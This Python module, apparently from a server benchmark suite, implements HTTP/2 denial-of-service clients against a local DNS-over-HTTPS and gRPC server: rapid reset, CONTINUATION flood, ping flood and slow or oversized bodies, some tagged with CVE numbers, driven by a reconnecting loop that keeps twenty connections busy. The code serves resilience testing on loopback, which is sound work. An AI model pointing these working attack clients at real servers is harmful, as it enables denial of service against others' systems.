"""Clients that misbehave over HTTP/2, for `bench.attackers`: DNS over HTTPS and gRPC.

Each attack keeps CONNECTIONS connections open, and sends the same octets on each one again and again. If the server
closes a connection, the attack opens another one.
"""

from __future__ import annotations

import itertools
import selectors
import socket
import ssl
import time
from base64 import urlsafe_b64encode
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from typing import Final

from hpack import Encoder

from bench.client import make_query
from bench.cluster import Cluster

ATTACKER: Final = "127.0.0.66"
CONNECTIONS: Final = 20
PART: Final = 50
"""The number of streams or frames that an attack writes to a connection at once."""
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
DATA, HEADERS, RST_STREAM, PING, CONTINUATION = 0, 1, 3, 6, 9
END_STREAM, END_HEADERS = 1, 4
LAST_STREAM: Final = (1 << 31) - 1
RECONNECT: Final = 0.05
"""Seconds between two attempts to open a connection."""

Frames = Callable[[], Iterator[bytes]]


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Returns an HTTP/2 frame (RFC 9113 §4.1)."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def header_block(*fields: tuple[str, str]) -> bytes:
    """Returns header fields that no table of the server keeps, so that each request has the same octets."""
    return Encoder().encode([(name, value, True) for name, value in fields], huffman=False)


def _request(path: str, *more: tuple[str, str], method: str = "POST") -> bytes:
    return header_block((":method", method), (":scheme", "https"), (":authority", "dns.test"), (":path", path), *more)


def _query() -> bytes:
    return bytes(2) + make_query(Cluster(1000).fqdn(0))[2:]


def resets() -> Iterator[bytes]:
    """Opens streams with a complete query, and resets each one (CVE-2023-44487)."""
    path = f"/dns-query?dns={urlsafe_b64encode(_query()).rstrip(b'=').decode()}"
    headers, cancel = _request(path, method="GET"), (8).to_bytes(4, "big")
    for numbers in _streams():
        yield b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, n, headers) + frame(RST_STREAM, 0, n, cancel) for n in numbers
        )


def continuations() -> Iterator[bytes]:
    """Sends the first part of a header block, and then CONTINUATION frames without an end (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, _request("/dns-query", method="GET"))
    more = frame(CONTINUATION, 0, 1, header_block(("x", "a" * 1000)))
    yield from itertools.repeat(more * PART)


def slow_bodies() -> Iterator[bytes]:
    """Opens streams, and sends only one octet of each body."""
    headers = _request("/dns-query", ("content-type", "application/dns-message"))
    for numbers in _streams():
        yield b"".join(frame(HEADERS, END_HEADERS, n, headers) + frame(DATA, 0, n, b"\0") for n in numbers)


def long_bodies() -> Iterator[bytes]:
    """Sends bodies that are longer than a DNS message."""
    headers = _request("/dns-query", ("content-type", "application/dns-message"))
    for numbers in _streams():
        for n in numbers:
            yield frame(HEADERS, END_HEADERS, n, headers) + frame(DATA, 0, n, bytes(16384)) * 5


def pings() -> Iterator[bytes]:
    """Sends PING frames, and never reads their acknowledgements (CVE-2019-9512)."""
    yield from itertools.repeat(frame(PING, 0, 0, bytes(8)) * PART)


def grpc_calls() -> Iterator[bytes]:
    """Opens gRPC calls whose message is announced and never sent."""
    fields = (("content-type", "application/grpc"), ("te", "trailers"))
    headers = _request("/coredns.dns.DnsService/Query", *fields)
    for numbers in _streams():
        begun = bytes((0, 0, 0, 1, 0))
        yield b"".join(frame(HEADERS, END_HEADERS, n, headers) + frame(DATA, 0, n, begun) for n in numbers)


def _streams() -> Iterator[range]:
    return (range(first, first + 2 * PART, 2) for first in range(1, LAST_STREAM - 2 * PART, 2 * PART))


class _Connection:
    """A TLS connection, and the octets that the attack has not sent on it yet."""

    def __init__(self, port: int, frames: Frames) -> None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), 2, source_address=(ATTACKER, 0))
        self.sock = context.wrap_socket(raw)
        self.sock.setblocking(False)
        self._frames, self._rest = frames(), PREFACE

    def write(self) -> bool:
        """Sends octets until the socket is full or some parts are sent. Returns False if the connection has ended."""
        with suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            for _ in range(4):
                self._rest = self._rest[self.sock.send(self._rest) :] or next(self._frames)
        return True

    def read(self) -> bool:
        """Discards what the server has sent. Returns False if the connection has ended."""
        with suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            while self.sock.recv(65536):
                pass
            return False
        return True


def attack(port: int, frames: Frames, over: Callable[[], bool], *, reads: bool = True) -> int:
    """Attacks the server at `port` until `over()` is true. Returns the number of connections that were opened.

    If `reads` is false, the attack never reads what the server sends.
    """
    opened, next_attempt = 0, 0.0
    with ExitStack() as stack:
        selector = stack.enter_context(selectors.EpollSelector())
        events = selectors.EVENT_WRITE | (selectors.EVENT_READ if reads else 0)
        while not over():
            if len(selector.get_map()) < CONNECTIONS and time.monotonic() >= next_attempt:
                next_attempt = time.monotonic() + RECONNECT
                with suppress(OSError):
                    connection = _Connection(port, frames)
                    selector.register(connection.sock, events, connection)
                    opened += 1
            for key, ready in selector.select(0.01):
                if not _turn(key.data, ready):
                    selector.unregister(key.fileobj)
                    key.data.sock.close()
        for key in list(selector.get_map().values()):
            key.data.sock.close()
    return opened


def _turn(connection: _Connection, ready: int) -> bool:
    """Reads and writes what is possible. Returns False if the connection has ended."""
    try:
        if ready & selectors.EVENT_READ and not connection.read():
            return False
        if ready & selectors.EVENT_WRITE:
            connection.write()
    except (OSError, StopIteration):
        return False
    return True
